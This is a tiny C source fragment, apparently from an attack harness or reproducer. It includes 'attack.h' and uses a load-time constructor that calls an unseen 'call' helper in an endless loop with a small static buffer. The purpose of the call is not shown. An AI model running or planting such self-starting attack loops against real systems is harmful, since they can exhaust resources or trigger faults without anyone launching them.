#include "attack.h"
__attribute__((constructor)) static void early(void) {
  static unsigned sync[6] = { 0, 0, 4 };
  for (;;) call(4, 1, (int)sync, sizeof sync);
}
#include "body.h"
